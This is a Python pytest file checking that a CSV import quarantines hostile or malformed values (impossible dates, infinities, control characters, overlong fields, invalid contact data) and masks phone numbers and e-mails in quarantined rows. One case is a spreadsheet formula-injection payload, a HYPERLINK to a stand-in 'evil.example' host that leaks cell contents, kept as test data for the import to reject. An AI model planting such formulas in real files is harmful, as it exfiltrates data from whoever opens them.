"""Hostile values at import, on SQLite and PostgreSQL: each goes to quarantine with its line,
field and reason, the rest of the file loads, and nothing outside the bounds is stored.

The rules are those of `tasks.common.bounds`; `docs/security.md` points here.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from pdca.models import Customer, Import, QuarantinedRow
from tasks.common.bounds import Bounds
from tests.tasks.data import test_importing
from tests.tasks.data.test_importing import (
    GOOD,
    assert_import,
    data_rows,
    header,
    quarantined,
    read_back,
    run_import,
    write_feed,
)

seeded = test_importing.seeded  # the fixture: the example campaign and a few rows

TOUCH = "t20,sme-spring-2026,c1,sms,A,{sent_at},true,false,{cost}"
CUSTOMER = "c20,sme,north,650,5000,0.3,retail,{phone},{email},true,false,{created_at}"


def touch(sent_at: str = "2026-03-02T12:00:00", cost: str = "0.05") -> str:
    return TOUCH.format(sent_at=sent_at, cost=cost)


def customer(phone: str = "", email: str = "", created_at: str = "") -> str:
    return CUSTOMER.format(phone=phone, email=email, created_at=created_at)


HOSTILE = [
    # (case, feed, bad line, field, fragment of the reason)
    ("year 1 in a +08:00 campaign", "touches", touch("0001-01-01T00:00:00"), "sent_at", "outside"),
    ("year 10000 once in UTC", "customers", customer(created_at="9999-12-31T23:59:59-12:00"),
     "created_at", "outside the plausible range 1970-01-01 to 2100-12-31"),
    ("before 1970", "touches", touch("1969-12-31T23:59:59Z"), "sent_at", "outside"),
    ("now", "touches", touch("now"), "sent_at", "not an ISO 8601 timestamp"),
    ("today", "touches", touch("today"), "sent_at", "not an ISO 8601 timestamp"),
    ("date of year 1", "repayments", "l1,0001-01-01,0,100", "as_of", "outside"),
    ("inf", "touches", touch(cost="inf"), "cost", "not a finite number"),
    ("1e400", "touches", touch(cost="1e400"), "cost", "not a finite number"),
    ("Infinity", "applications", "a20,c1,,sms,2026-03-03T10:00:00,sme-revolving,Infinity",
     "amount_requested", "not a finite number"),
    ("-inf", "customers", "c20,sme,north,650,-inf,0.3,retail,,,true,false,", "monthly_income",
     "not a finite number"),
    ("nan", "loans", "l20,a1,2026-03-05T10:00:00+08:00,nan,12.5,12", "amount", "not a number"),
    ("integer beyond bigint", "customers",
     "c20,sme,north,99999999999999999999999999,5000,0.3,retail,,,true,false,", "credit_score",
     "not an integer"),
    ("NUL byte", "customers", "c20,s\x00me,north,650,,,,,,true,false,", "segment",
     "control character"),
    ("line break in a quoted field", "complaints",
     'k20,c1,,2026-03-06T20:00:00Z,"pricing\r\nrefund"', "category", "control character"),
    ("line break beside contact data", "customers",
     'c20,"s\nme",north,650,,,,+86 138 1234 5678,,true,false,', "segment", "control character"),
    ("whitespace in an id", "customers", "c 20,sme,north,650,,,,,,true,false,", "customer_id",
     "an id holds no whitespace"),
    ("escape character", "decisions", "a2,2026-03-04T09:30:00Z,rejected,low\x1b[2J,,",
     "reject_reason", "control character"),
    ("longer than the column", "customers", f"c20,{'s' * 65},north,650,,,,,,true,false,",
     "segment", "longer than 64 characters"),
    ("formula as phone", "customers",
     customer(phone='"=HYPERLINK(""http://evil.example/?leak=""&A2,""Call now"")"'), "phone",
     "phone: longer than 32 characters"),
    ("short formula as phone", "customers", customer(phone="=1+2"), "phone", "not a phone number"),
    ("too few digits", "customers", customer(phone="+86 12"), "phone", "not a phone number"),
    ("letters in a phone", "customers", customer(phone="+86 138 CALL ME"), "phone",
     "not a phone number"),
    ("e-mail without @", "customers", customer(email="someone.example.com"), "email",
     "not an e-mail address"),
    ("e-mail without a dot", "customers", customer(email="a@localhost"), "email",
     "not an e-mail address"),
]  # fmt: skip


class TestHostileValuesAreQuarantined:
    @pytest.mark.parametrize(
        ("feed", "bad", "field", "reason"),
        [pytest.param(*case[1:], id=case[0]) for case in HOSTILE],
    )
    def test_failure(
        self, seeded: Engine, tmp_path: Path, feed: str, bad: str, field: str, reason: str
    ):
        path = write_feed(tmp_path, feed, [GOOD[feed], bad])
        result = run_import(seeded, feed, path)
        assert (result.rows, result.loaded, result.quarantined) == (2, 1, 1), result.reasons
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
            status = conn.execute(select(Import.status)).scalar_one()
        last_line = 3 + bad.count("\n")  # a quoted line break: the record's last line
        assert (row.line, row.field) == (last_line, field)
        assert reason in row.reason, f"reason {row.reason!r} should mention {reason!r}"
        assert "\x00" not in row.raw
        assert status == "loaded"

    def test_success_bounds_are_a_setting(self, seeded: Engine, tmp_path: Path):
        from datetime import date

        path = write_feed(tmp_path, "touches", [touch("1960-06-01T00:00:00Z")])
        bounds = Bounds.of_days(date(1950, 1, 1), date(2100, 12, 31))
        result = run_import(seeded, "touches", path, bounds=bounds)
        assert (result.loaded, result.quarantined) == (1, 0)

    def test_success_valid_contact_data_loads(self, seeded: Engine, tmp_path: Path):
        rows = [
            customer(phone="+86 138 1234 5678", email="li.wei@example.cn"),
            "c21,sme,north,650,5000,0.3,retail,0086-138-1234-5678,a@b.cn,true,false,",
            "c22,sme,north,650,5000,0.3,retail,'+8613812345678,,true,false,",
        ]
        path = write_feed(tmp_path, "customers", rows)
        result = run_import(seeded, "customers", path)
        assert_import(seeded, result, path, [])
        phones = [row[7] for row in read_back(seeded, "customers", [("c20",), ("c21",), ("c22",)])]
        assert phones == ["+86 138 1234 5678", "0086-138-1234-5678", "+8613812345678"], (
            "an export's neutralising ' is removed again"
        )


class TestOversizedField:
    def test_failure_200_kb_field_deep_in_the_file(self, seeded: Engine, tmp_path: Path):
        """Row 4,001 of 5,000 (chunks of 1,000) holds 200 KB: that row alone is refused."""
        lines = [f"c{i:05d},sme,north,650,,,retail,,,true,false," for i in range(5000)]
        lines[4000] = f"c04000,sme,north,650,,,{'x' * 200_000},,,true,false,"
        path = write_feed(tmp_path, "customers", lines)
        result = run_import(seeded, "customers", path, chunk_rows=1000)
        assert (result.rows, result.loaded, result.quarantined) == (5000, 4999, 1)
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
            status = conn.execute(select(Import.status)).scalar_one()
        assert (row.line, row.field) == (4002, "industry")
        assert "longer than 64 characters" in row.reason
        assert len(row.raw) < 3000, "the quarantine names the field, it does not store 200 KB"
        assert status == "loaded"

    def test_failure_over_the_settings_limit(self, seeded: Engine, tmp_path: Path):
        path = write_feed(tmp_path, "customers", [f"c20,sme,north,650,,,,,{'a' * 90}@b.cn,1,0,"])
        result = run_import(seeded, "customers", path, bounds=Bounds(max_field_chars=50))
        assert result.quarantined == 1
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
        assert (row.field, row.reason) == ("email", "email: longer than 50 characters")


class TestQuarantineMasksContactData:
    def test_failure_row_keeps_only_the_end_of_phone_and_email(
        self, seeded: Engine, tmp_path: Path
    ):
        bad = "c20,sme,north,1200,5000,0.3,retail,+86 138 1234 5678,li.wei@example.cn,1,0,"
        path = write_feed(tmp_path, "customers", [bad])
        run_import(seeded, "customers", path)
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
        assert row.raw == "c20,sme,north,1200,5000,0.3,retail,***5678,l***@example.cn,1,0,"

    def test_failure_misshapen_row_is_masked_too(self, seeded: Engine, tmp_path: Path):
        bad = "c20,sme,north,1200,+86 138 1234 5678,li.wei@example.cn"
        path = write_feed(tmp_path, "customers", [bad])
        run_import(seeded, "customers", path)
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
        assert "1234 5678" not in row.raw and "li.wei" not in row.raw
        assert row.raw.endswith("***5678,l***@example.cn")

    def test_success_loaded_contact_data_is_not_masked(self, seeded: Engine, tmp_path: Path):
        path = write_feed(tmp_path, "customers", [customer(phone="+86 138 1234 5678")])
        run_import(seeded, "customers", path)
        with seeded.connect() as conn:
            phone = conn.execute(select(Customer.phone).where(Customer.customer_id == "c20"))
            assert phone.scalar_one() == "+86 138 1234 5678"


class TestQuarantineKeyedByResolvedPath:
    def test_success_two_spellings_one_set_of_rows(
        self, seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        path = write_feed(tmp_path, "customers", [GOOD["customers"], customer(phone="12")], "q.csv")
        monkeypatch.chdir(tmp_path)
        run_import(seeded, "customers", Path("q.csv"))
        run_import(seeded, "customers", path.resolve())
        run_import(seeded, "customers", Path(".") / ".." / tmp_path.name / "q.csv")
        with seeded.connect() as conn:
            rows = conn.execute(select(QuarantinedRow.file, QuarantinedRow.line)).all()
            files = set(conn.execute(select(Import.file)).scalars())
        assert rows == [(str(path.resolve()), 3)]
        assert files == {str(path.resolve())}


def test_header_helper_matches_the_feed():
    """The helpers above write the contract's header (guards the row templates)."""
    assert header("touches").count(",") == TOUCH.count(",")
    assert header("customers").count(",") == CUSTOMER.count(",")
    assert data_rows  # imported for symmetry with test_importing


class TestUnreadableRow:
    def test_failure_field_beyond_the_readers_limit(
        self, seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        """A field the CSV reader cannot hold (an unterminated quote swallowing the file,
        here a field over a lowered limit) costs its row, not the import."""
        from tasks.data import import_reading

        monkeypatch.setattr(import_reading, "READ_LIMIT", 1000)
        lines = [GOOD["customers"], f"c20,sme,north,650,,,{'x' * 2000},,,true,false,"]
        lines.append("c21,sme,north,650,,,,,,true,false,")
        path = write_feed(tmp_path, "customers", lines)
        result = run_import(seeded, "customers", path)
        assert (result.rows, result.loaded, result.quarantined) == (3, 2, 1), result.reasons
        with seeded.connect() as conn:
            [row] = quarantined(conn, path)
        assert (row.line, row.field) == (3, "(row)")
        assert "unreadable row: field larger than field limit" in row.reason
